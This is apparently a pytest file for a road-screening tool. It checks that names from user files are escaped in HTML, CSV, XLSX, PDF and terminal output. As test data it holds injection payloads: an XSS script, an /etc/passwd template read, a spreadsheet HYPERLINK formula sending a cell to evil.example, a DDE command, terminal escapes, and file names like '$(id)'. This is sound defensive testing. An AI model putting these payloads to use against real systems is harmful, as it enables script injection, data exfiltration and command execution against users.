"""Names from users' files come out as plain text in every format, whatever they hold."""

import csv
import io
import json
import re
import unicodedata
import zipfile
from collections.abc import Mapping
from dataclasses import replace
from functools import cache
from pathlib import Path

import openpyxl
import pytest
import shapely

from camiscreen import paths, screening
from camiscreen.i18n import Translator
from camiscreen.layers import catalogue
from camiscreen.model import Acceptance, Screening, SourceFile
from camiscreen.report import outputs
from camiscreen.report.spreadsheet_text import guarded, may_be_formula
from camiscreen.report.xlsx import MOST_CHARACTERS
from camiscreen.rulebook import rulebook
from camiscreen.vocabulary import Format, Kind, ReceptorKind
from tests.conftest import ROOT, make_project
from tests.conftest import run_here as run
from tests.report import sensitive
from tests.report.plain_text import csv_cells, text_of

FORMATS = tuple(Format)
MARK = "Zabor"
"""A word in each name by which the tests find it again."""

NAMES = {
    "script": f"{MARK} <script>alert(1)</script><img src=x onerror=alert(2)>",
    "typst": f'{MARK} #read("/etc/passwd") $x$ \\ {{{{7*7}}}} {{% raw %}} ]]>',
    "formula": f'=HYPERLINK("http://evil.example/?"&A1;"{MARK}")',
    "dde": f"+cmd|' /C calc'!A0 {MARK}; =1+1",
    "at": f"@SUM(1;2) {MARK}",
    "minus": f"-2+3 {MARK}\t=4",
    "hidden": f"\u200b \"'=1+1 {MARK}",
    "newlines": f"{MARK}\r\n=1+1\n::set-output name=x::y\u2028z",
    "long": f"{MARK} " + "A" * 10_000,
    "endless": f"{MARK} " + "б " * 20_000,
    "bidi": f"{MARK} \u202egpj.exe\u202c \u062a\u0647\u0631\u0627\u0646 \u2066x\u2069",
    "control": f"{MARK} \x00\x07\x08\x1b[31mred\x1b]0;title\x07 \x7f\x9b31m \ufffe\uffff",
    "surrogate": f"{MARK} \ud800 alone \udfff",
    "astral": f"{MARK} \U0001f98c 中文 Ωж",
}
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
)
"""What no file may hold in a text: control characters, direction overrides, lone surrogates."""


@cache
def hostile(which: str, cache_dir: Path, folder: Path) -> Screening:
    """A road, a layer, receptors, a source and an acceptance that all bear one name."""
    name = NAMES[which]
    shapes: list[sensitive.Shape] = [
        ("one", name, shapely.box(67.34, 47.5, 67.36, 47.6), {"species": "saiga"}),
        (name[:200], name, shapely.box(67.44, 47.5, 67.46, 47.6), {}),
    ]
    sensitive.write_layer(
        folder / which, "hostile", ReceptorKind.CORRIDOR, shapes, title=in_yaml(name)
    )
    layers = catalogue.read_catalogue([ROOT / "reference_layers", folder / which], cache_dir)
    made = screening.screen(
        make_project(*[sensitive.ROAD], kind=Kind.ROAD, name=name),
        screening.open_layers(layers, cache_dir),
        rulebook.load([paths.data_dir("rules")], cache_dir),
        generated_on="2026-11-22",
    )
    accepted = Acceptance(finding_id=name, reason=name, by=name, until="2027-03-01")
    first, *others = made.findings
    return replace(
        made,
        project=replace(made.project, source=SourceFile(path=name, sha256="0" * 64, layer=name)),
        findings=(replace(first, accepted=accepted), *others),
    )


def in_yaml(name: str) -> str:
    """A name as YAML can hold it: half a character is refused there, with file and line."""
    return name.encode("utf-8", errors="replace").decode("utf-8")


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("hostile")


@pytest.fixture(params=sorted(NAMES))
def which(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def drawn(made: Screening, wanted: Format, language: str = "en") -> Mapping[str, bytes]:
    ((_, draw),) = outputs.draw(made, Translator(language), (wanted,))
    return draw()


@pytest.mark.parametrize("wanted", FORMATS)
def test_names_come_out_as_plain_text(
    which: str, wanted: Format, cache: Path, folder: Path
) -> None:
    files = drawn(hostile(which, cache, folder), wanted)
    said = text_of(files)
    assert MARK in re.sub(r"[\s\u200b\u00ad]", "", said)
    assert "root:" not in said
    assert not FORBIDDEN.findall(said)
    if which == "script" and wanted is not Format.PDF:
        squeezed = re.sub(r"[\s\u200b\u00ad]", "", said)
        assert "<script>alert(1)</script>" in squeezed


def test_markup_of_a_name_is_no_markup_of_the_page(cache: Path, folder: Path) -> None:
    page = drawn(hostile("script", cache, folder), Format.HTML)["html"].decode()
    assert "<script>alert" not in page
    assert "<img" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


# ----------------------------------------------------------------------------------------------
# Spreadsheets
# ----------------------------------------------------------------------------------------------

_FORMULA = re.compile(r"[\s\"'\u200b]*[=+\-@\uff1d\uff0b\uff0d\uff20]")


def test_no_cell_of_a_csv_is_a_formula_under_any_separator(
    which: str, cache: Path, folder: Path
) -> None:
    for data in drawn(hostile(which, cache, folder), Format.CSV).values():
        assert data.startswith(b"\xef\xbb\xbf")
        assert b"\n" not in data.replace(b"\r\n", b"")
        for cell in csv_cells(data):
            if not re.fullmatch(r"-?\d+(\.\d+)?", cell):
                assert cell.startswith("'") or not _FORMULA.match(cell), cell


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(
    which: str, cache: Path, folder: Path
) -> None:
    data = drawn(hostile(which, cache, folder), Format.XLSX)["xlsx"]
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in {"s", "n"}, cell.coordinate
                assert cell.hyperlink is None
                if isinstance(cell.value, str):
                    assert len(cell.value.encode("utf-16-le")) // 2 <= MOST_CHARACTERS
                    # The prefix keeps it text when somebody edits the cell.
                    assert cell.quotePrefix or not _FORMULA.match(cell.value), cell.coordinate
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not [name for name in archive.namelist() if "externalLink" in name]


def test_numbers_stay_numbers(cache: Path, folder: Path) -> None:
    made = hostile("formula", cache, folder)
    book = openpyxl.load_workbook(io.BytesIO(drawn(made, Format.XLSX)["xlsx"]))
    (column,) = (c for c in book.worksheets[1].iter_cols() if c[0].value == "KP to, km")
    assert all(isinstance(cell.value, int | float) for cell in column[1:])
    text = drawn(made, Format.CSV)["kp.csv"].decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert float(rows[-1]["kp_to_km"]) == pytest.approx(made.project.chainage_length_m / 1e3, 1e-4)


@pytest.mark.parametrize(
    ("given", "told"),
    [
        ("=1+1", "'=1+1"), ("+7 701", "'+7 701"), ("-x", "'-x"), ("@a", "'@a"),
        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("\"=1", "'\"=1"),
        ("\u200b=1", "'\u200b=1"), ("\uff1d1", "'\uff1d1"), ("a;=1", "a;'=1"), ("a; =1", "a;' =1"),
        ("a=b", "a=b"), ("KP 1+000", "KP 1+000"), ("", ""), ("1+000; 2+000", "1+000; 2+000"),
    ],
)  # fmt: skip
def test_what_is_guarded(given: str, told: str) -> None:
    assert guarded(given) == told
    assert not may_be_formula(told) or told.startswith("'")


# ----------------------------------------------------------------------------------------------
# The terminal, file names
# ----------------------------------------------------------------------------------------------


def test_the_terminal_prints_no_escape_sequence(which: str, tmp_path: Path) -> None:
    route = tmp_path / "route.geojson"
    feature = {
        "type": "Feature",
        "properties": {"name": NAMES[which], "kind": "road"},
        "geometry": {"type": "LineString", "coordinates": sensitive.ROAD},
    }
    route.write_text(json.dumps(feature), encoding="utf-8")
    shapes: list[sensitive.Shape] = [
        ("one", NAMES[which], shapely.box(67.34, 47.5, 67.36, 47.6), {"species": "saiga"})
    ]
    sensitive.write_layer(
        tmp_path / "layers", "hostile", ReceptorKind.CORRIDOR, shapes, title=in_yaml(NAMES[which])
    )
    done = run("check", route, "--kind", "road", "--format", "json", "--layers",
               tmp_path / "layers", "--date", "2026-11-22")  # fmt: skip
    assert done.returncode in {0, 3}, done.stderr
    shown = run("layers", "show", "hostile", "--layers", tmp_path / "layers")
    assert MARK in done.stdout
    assert MARK in shown.stdout, shown.stderr
    for text in (done.stdout, done.stderr, shown.stdout, shown.stderr):
        assert not [c for c in text if c != "\n" and unicodedata.category(c) in {"Cc", "Cs"}]
        assert not FORBIDDEN.findall(text)


@pytest.mark.parametrize(
    "stem", ["=1+1", "-rf", "a b;c", "@x", "$(id)", "имя проекта", "a\x1b[31mb", "a\nb", "%s{x}"]
)
def test_a_hostile_file_name_is_only_a_name(stem: str, tmp_path: Path) -> None:
    route = tmp_path / f"{stem}.geojson"
    geometry = {"type": "LineString", "coordinates": sensitive.ROAD}
    route.write_text(json.dumps(geometry), encoding="utf-8")
    wanted = ",".join(FORMATS)
    done = run("check", route, "--kind", "road", "--format", wanted, "--date", "2026-11-22",
               "--out", tmp_path / "out")  # fmt: skip
    assert done.returncode in {0, 3}, done.stderr
    assert not FORBIDDEN.findall(done.stdout)
    written = sorted(path.name for path in (tmp_path / "out").iterdir())
    assert written
    assert all(name.startswith(f"{stem}.") for name in written)
